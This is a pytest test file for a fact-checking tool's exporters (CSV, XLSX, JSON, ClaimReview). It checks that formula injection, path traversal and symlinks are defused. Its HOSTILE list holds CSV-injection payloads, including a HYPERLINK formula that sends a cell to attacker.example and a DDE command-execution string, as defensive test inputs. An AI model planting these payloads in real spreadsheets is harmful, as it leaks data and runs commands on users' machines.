"""Exporters as pure functions over statement rows: CSV, XLSX, JSON, ClaimReview, paths."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from attribution.export import (
    COLUMNS,
    ExportFormat,
    ExportRefused,
    atomic_output,
    claim_reviews,
    export_rows,
    neutralise,
    plan_reviews,
    read_sheet,
    sheet_title,
    slugify,
    unneutralise,
)
from attribution.export.cells import XLSX_CELL_LIMIT, fit_cell, utf16_length

try:
    from test_export_fixtures import SEED_TEXT, seed_row, seed_rows
except ImportError:  # tests/ became a package
    from tests.test_export_fixtures import SEED_TEXT, seed_row, seed_rows

DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\0"]
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "@SUM(1)",
    "-2+3",
    "+1",
    "\t=1",
    "\r=1",
    "\0=1",
    '=cmd|" /C calc"!A0',
    'a "quoted", comma\nand newline',
]


def hostile_row(i: int, text: str) -> dict[str, Any]:
    row = seed_row(f"h{i:015d}", "Belarus had been offering migrants flights to Minsk")
    row.update(speaker=text, role=text, organisation=text, note=text, cue=text)
    return row


# --------------------------------------------------------------------------- cell rules


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_each_formula_prefix_gets_a_leading_quote(prefix: str) -> None:
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    assert unneutralise(neutralise(prefix + "1+1")) == prefix + "1+1"


@pytest.mark.parametrize("text", ["", "Lithuania", "'quoted", "1-2", " =not first", "{=1+1}"])
def test_harmless_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_fit_cell_marks_and_counts_utf16_units() -> None:
    text = "\U0001f600" * 20_000  # 40,000 UTF-16 units
    cut, changed = fit_cell(text)
    assert changed and utf16_length(cut) <= XLSX_CELL_LIMIT
    assert "[TRUNCATED: first" in cut and "of 20,000 characters" in cut
    assert fit_cell("short") == ("short", False)


# --------------------------------------------------------------------------- CSV


def test_csv_neutralises_hostile_cells_and_nothing_else(tmp_path: Path) -> None:
    rows = [hostile_row(i, text) for i, text in enumerate(HOSTILE)]
    rows[0]["score"] = -2.5  # numeric column: exempt from the prefix
    out = tmp_path / "sheet.csv"
    report = export_rows(rows, out, "csv")
    assert report.rows == len(HOSTILE)
    with open(out, encoding="utf-8", newline="") as handle:
        table = list(csv.reader(handle))
    assert table[0] == list(COLUMNS)
    assert len(table) == len(HOSTILE) + 1
    assert all(len(r) == len(COLUMNS) for r in table)
    col = {name: i for i, name in enumerate(COLUMNS)}
    for text, record in zip(HOSTILE, table[1:], strict=True):
        expected = "'" + text if text[0] in DANGEROUS else text
        for name in ("speaker", "role", "organisation", "note", "cue"):
            assert record[col[name]] == expected
        assert record[col["content"]] == "Belarus had been offering migrants flights to Minsk"
    assert table[1][col["score"]] == "-2.5"
    for record in table[1:]:
        for cell in record:
            assert not cell or cell[0] not in DANGEROUS or cell == "-2.5"


def test_csv_excel_flag_writes_a_bom(tmp_path: Path) -> None:
    out = tmp_path / "sheet.csv"
    export_rows(seed_rows(), out, "csv", excel_csv=True)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")


# --------------------------------------------------------------------------- XLSX


def test_xlsx_layout_header_filter_validation(tmp_path: Path) -> None:
    out = tmp_path / "sheet.xlsx"
    report = export_rows(seed_rows(), out, about=[("filters", "speaker==evil"), ("x", "=evil")])
    assert report.format is ExportFormat.XLSX and report.rows == 5 and not report.warnings
    wb = load_workbook(out)
    ws = wb["statements"]
    assert [c.value for c in ws[1]] == list(COLUMNS)
    assert ws.freeze_panes == "B2"
    from openpyxl.utils import get_column_letter

    assert ws.auto_filter.ref == f"A1:{get_column_letter(len(COLUMNS))}{len(seed_rows()) + 1}"
    (validation,) = ws.data_validations.dataValidation
    assert validation.type == "list" and "misleading" in validation.formula1
    status_letter = "ABCDEFGHIJKLMNOPQRSTUVWX"[COLUMNS.index("status")]
    assert str(validation.sqref) == f"{status_letter}2:{status_letter}6"
    values = {c.value for row in ws.iter_rows(min_row=2) for c in row}
    for row in seed_rows():
        assert row["content"] in values and row["sentence"] in values
    start_col = COLUMNS.index("content_start")
    assert ws.cell(2, start_col + 1).data_type == "n"
    about = {r[0].value: r[1].value for r in wb["about"].iter_rows()}
    assert about["filters"] == "speaker==evil" and about["x"] == "'=evil"


def test_xlsx_injection_and_limits(tmp_path: Path) -> None:
    texts = [*HOSTILE, "{=1+1}", "https://example.com/a?b=1", "x" * 40_000, "a\x00b\x0bc"]
    rows = [hostile_row(i, text) for i, text in enumerate(texts)]
    out = tmp_path / "sheet.xlsx"
    report = export_rows(rows, out, "xlsx")
    wb = load_workbook(out)
    ws = wb["statements"]
    formulas = [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert [c for row in ws.iter_rows() for c in row if c.hyperlink] == []
    note = COLUMNS.index("note") + 1
    for i, text in enumerate(texts, start=2):
        value = ws.cell(i, note).value
        assert ws.cell(i, note).data_type == "s"
        if text[0] in DANGEROUS:
            assert value.startswith("'")
    long_note = ws.cell(2 + texts.index("x" * 40_000), note).value
    assert len(long_note) <= XLSX_CELL_LIMIT and "[TRUNCATED: first" in long_note
    assert ws.cell(2 + len(texts) - 1, note).value == "a\u2400b\u240bc"
    assert any("exceed the XLSX cell limit" in w and "column note" in w for w in report.warnings)
    assert any("control character" in w for w in report.warnings)


def test_sheet_titles_and_slugs_are_safe() -> None:
    assert sheet_title("A/B: [x]*?") == "A_B_ _x___"
    assert len(sheet_title("n" * 100)) == 31
    assert sheet_title("''") == "Sheet"
    for name in ["../../evil", "CON", "a/b", "n" * 1000, "", "..", "Łukasz Ü"]:
        slug = slugify(name)
        assert slug and "/" not in slug and ".." not in slug and len(slug) <= 80
        assert slug.upper() != "CON"
    assert slugify("Łukasz Ü") == "ukasz-U"


# --------------------------------------------------------------------------- JSON


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_exports_slice_back_into_the_source(tmp_path: Path, fmt: str) -> None:
    rows = seed_rows()
    rows[0]["note"] = "lone \ud800 surrogate"
    out = tmp_path / f"x.{fmt}"
    report = export_rows(rows, out, fmt)
    raw = out.read_text(encoding="utf-8")
    if fmt == "json":
        payload = json.loads(raw)
        assert payload["offset_unit"] == "codepoint" and payload["count"] == len(rows)
        records = payload["statements"]
    else:
        records = [json.loads(line) for line in raw.splitlines()]
    assert len(records) == len(rows)
    for record in records:
        assert record["offset_unit"] == "codepoint"
        assert SEED_TEXT[record["content_start"] : record["content_end"]] == record["content"]
        assert SEED_TEXT[record["sentence_start"] : record["sentence_end"]] == record["sentence"]
    assert records[0]["note"] == "lone \ufffd surrogate"
    assert any("surrogate" in w for w in report.warnings)


# --------------------------------------------------------------------------- ClaimReview


def test_claimreview_shape(tmp_path: Path) -> None:
    out = tmp_path / "reviews.jsonld"
    report = export_rows(seed_rows(), out, "claimreview", reviewer="Desk", review_date="2024-01-02")
    reviews = json.loads(out.read_text(encoding="utf-8"))
    assert report.rows == len(reviews) == 4  # the "new" statement is not a verdict
    by_claim = {r["claimReviewed"]: r for r in reviews}
    simonyte = by_claim["Belarus had been offering migrants flights to Minsk"]
    assert simonyte == {
        "@context": "https://schema.org",
        "@type": "ClaimReview",
        "identifier": "a1b2c3d4e5f60002",
        "claimReviewed": "Belarus had been offering migrants flights to Minsk",
        "itemReviewed": {
            "@type": "Claim",
            "appearance": {
                "@type": "CreativeWork",
                "name": "seeds/000_08f2487d190f4389.txt",
                "datePublished": "2021-07-12",
                "identifier": "d" * 16,
            },
            "author": {
                "@type": "Person",
                "name": "Ingrida Simonyte",
                "jobTitle": "Prime Minister",
                "affiliation": {"@type": "Organization", "name": "Lithuania"},
            },
            "datePublished": "2021-07-12",
        },
        "reviewRating": {
            "@type": "Rating",
            "ratingValue": 5,
            "bestRating": 5,
            "worstRating": 1,
            "alternateName": "True",
        },
        "datePublished": "2024-01-02",
        "author": {"@type": "Organization", "name": "Desk"},
    }
    ratings = {r["identifier"][-1]: r["reviewRating"] for r in reviews}
    assert (ratings["3"]["ratingValue"], ratings["3"]["alternateName"]) == (2, "Misleading")
    assert (ratings["4"]["ratingValue"], ratings["4"]["alternateName"]) == (1, "False")
    assert (ratings["5"]["ratingValue"], ratings["5"]["alternateName"]) == (3, "Unverifiable")
    frontex = by_claim["more than 800 illegal crossings"]["itemReviewed"]["author"]
    assert frontex["@type"] == "Organization" and frontex["name"] == "Frontex"
    assert "author" not in by_claim[seed_rows()[4]["content"]]["itemReviewed"]


def test_claimreview_uses_urls_titles_and_review_times() -> None:
    row = seed_rows()[1]
    row.update(
        source="https://www.rferl.org/a/lithuania-belarus-migrants/31354321.html",
        document_title="Lithuania To Urge EU Sanctions",
        reviewed_at="2024-03-04T10:00:00+00:00",
    )
    (review,) = claim_reviews([row])
    work = review["itemReviewed"]["appearance"]
    assert work["url"].startswith("https://www.rferl.org/") and "name" not in work
    assert work["headline"] == "Lithuania To Urge EU Sanctions"
    assert review["datePublished"] == "2024-03-04"
    row.update(status="dismissed")
    assert claim_reviews([row]) == []


# --------------------------------------------------------------------------- paths (R7.4)


def test_existing_file_is_refused_without_force(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    out.write_text("keep me")
    with pytest.raises(ExportRefused, match="already exists"):
        export_rows(seed_rows(), out, "csv")
    assert out.read_text() == "keep me"
    export_rows(seed_rows(), out, "csv", force=True)
    assert out.read_text().startswith("id,kind,")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]


def test_symlink_target_is_never_followed(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    before = victim.stat().st_mtime_ns
    link = tmp_path / "x.csv"
    link.symlink_to(victim)
    for force in (False, True):
        with pytest.raises(ExportRefused, match="symbolic link"):
            export_rows(seed_rows(), link, "csv", force=force)
    assert victim.read_text() == "precious" and victim.stat().st_mtime_ns == before
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    with pytest.raises(ExportRefused, match="symbolic link"):
        export_rows(seed_rows(), dangling, "csv")
    assert not (tmp_path / "nowhere.csv").exists()


def test_relative_paths_may_not_climb_out(tmp_path: Path) -> None:
    base = tmp_path / "work"
    base.mkdir()
    with pytest.raises(ExportRefused, match="leaves"):
        export_rows(seed_rows(), Path("../../etc/x.csv"), "csv", base=base)
    with pytest.raises(ExportRefused, match="does not exist"):
        export_rows(seed_rows(), Path("missing/x.csv"), "csv", base=base)
    (base / "sub").mkdir()
    with pytest.raises(ExportRefused, match="is a directory"):
        export_rows(seed_rows(), Path("sub"), "csv", base=base)
    with pytest.raises(ExportRefused, match="not a file name"):
        export_rows(seed_rows(), Path("."), "csv", base=base)
    report = export_rows(seed_rows(), Path("sub/../x.csv"), "csv", base=base)
    assert report.rows == 5 and (base / "x.csv").is_file()


def test_failed_export_leaves_nothing_behind(tmp_path: Path) -> None:
    out = tmp_path / "x.xlsx"
    rows = seed_rows()

    def exploding() -> Any:
        yield rows[0]
        raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError):
        export_rows(exploding(), out, "xlsx")
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(RuntimeError), atomic_output(out) as tmp:
        tmp.write_text("partial")
        raise RuntimeError("killed")
    assert list(tmp_path.iterdir()) == []


def test_export_file_mode_follows_umask(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    old = os.umask(0o022)
    try:
        export_rows(seed_rows(), out, "csv")
    finally:
        os.umask(old)
    assert out.stat().st_mode & 0o777 == 0o644


# --------------------------------------------------------------------------- import plan


def current_of(rows: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {r["id"]: r for r in rows}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_untouched_sheet_plans_nothing(tmp_path: Path, fmt: str) -> None:
    rows = seed_rows()
    rows[0]["note"] = "=SUM(A1)\x0b with a control character"
    out = tmp_path / f"sheet.{fmt}"
    export_rows(rows, out, fmt)
    plan = plan_reviews(read_sheet(out), current_of(rows))
    assert plan.changes == [] and plan.rejected == [] and plan.unchanged == len(rows)


def test_edited_csv_plans_changes_and_rejects_what_it_cannot_match(tmp_path: Path) -> None:
    rows = seed_rows()
    out = tmp_path / "sheet.csv"
    export_rows(rows, out, "csv")
    with open(out, encoding="utf-8", newline="") as handle:
        table = list(csv.reader(handle))
    col = {name: i for i, name in enumerate(table[0])}
    table[1][col["status"]] = "False "  # case and stray space are tolerated
    table[1][col["note"]] = "'=1+1 is how they got it"  # the quote prefix comes off again
    table[2][col["note"]] = "[clear]"  # clears the note (an empty cell would keep it)
    table[3][col["status"]] = "wrong"
    table[4][col["id"]] = "ffffffffffffffff"
    table.append(list(table[5]))  # a duplicate id
    table.append([""] * len(table[0]))  # a blank row is skipped
    with open(out, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(table)
    plan = plan_reviews(read_sheet(out), current_of(rows))
    assert [(c.row, c.status, c.note) for c in plan.changes] == [
        (2, "false", "=1+1 is how they got it"),
        (3, "verified", ""),
    ]
    assert [(r.row, r.reason.split(" ")[0]) for r in plan.rejected] == [
        (4, "invalid"),
        (5, "unknown"),
        (6, "id"),
        (7, "id"),
    ]
    assert "row 4 (id a1b2c3d4e5f60003): invalid status 'wrong'" in str(plan.rejected[0])
    assert plan.blank == 1


def test_truncated_note_cannot_come_back_edited(tmp_path: Path) -> None:
    rows = seed_rows()
    rows[0]["note"] = "n" * 40_000
    out = tmp_path / "sheet.xlsx"
    export_rows(rows, out)
    assert plan_reviews(read_sheet(out), current_of(rows)).unchanged == 5
    wb = load_workbook(out)
    cell = wb["statements"].cell(2, COLUMNS.index("note") + 1)
    cell.value = "edited " + cell.value
    wb.save(out)
    plan = plan_reviews(read_sheet(out), current_of(rows))
    assert [r.row for r in plan.rejected] == [2] and "truncated" in plan.rejected[0].reason


def test_sheet_without_id_column_is_an_input_error(tmp_path: Path) -> None:
    from attribution.errors import InputError

    bad = tmp_path / "bad.csv"
    bad.write_text("status,note\nverified,x\n")
    with pytest.raises(InputError, match="no 'id' column"):
        read_sheet(bad)
    latin = tmp_path / "latin.csv"
    latin.write_bytes("id,status\nx,caf\xe9\n".encode("latin-1"))
    with pytest.raises(InputError, match="not UTF-8"):
        read_sheet(latin)
    with pytest.raises(InputError, match="no such file"):
        read_sheet(tmp_path / "missing.xlsx")


KILLED_EXPORT = """
import sys, time
sys.path.insert(0, sys.argv[2])
from pathlib import Path
from attribution.export import export_rows
try:
    from test_export_fixtures import seed_rows
except ImportError:
    from tests.test_export_fixtures import seed_rows

def rows():
    for i in range(1_000_000):
        row = seed_rows()[i % 5]
        row["id"] = f"{i:016d}"
        if i == 2_000:
            print("writing", flush=True)
        if i > 2_000:
            time.sleep(0.001)
        yield row

export_rows(rows(), Path(sys.argv[1]), sys.argv[3])
"""


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_sigkill_mid_export_leaves_no_file_at_the_final_name(tmp_path: Path, fmt: str) -> None:
    import signal
    import subprocess
    import sys

    out = tmp_path / f"out.{fmt}"
    proc = subprocess.Popen(
        [sys.executable, "-c", KILLED_EXPORT, str(out), str(Path(__file__).parent), fmt],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "writing"
        partial = [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
        assert partial and partial[0].stat().st_size > 0  # the data is going somewhere else
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
    assert not out.exists()
    assert export_rows(seed_rows(), out, fmt).rows == 5  # the leftover temp file is no obstacle


def test_rows_of_retired_statements_are_rejected_with_the_reason(tmp_path: Path) -> None:
    rows = seed_rows()
    out = tmp_path / "sheet.csv"
    export_rows(rows, out, "csv")
    with open(out, encoding="utf-8", newline="") as handle:
        table = list(csv.reader(handle))
    table[1][COLUMNS.index("status")] = "verified"
    with open(out, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(table)
    still_current = current_of(rows[1:])
    plan = plan_reviews(read_sheet(out), still_current, retired={rows[0]["id"]})
    (rejection,) = plan.rejected
    assert rejection.row == 2 and "replaced by a re-extraction" in rejection.reason
    assert plan.changes == []
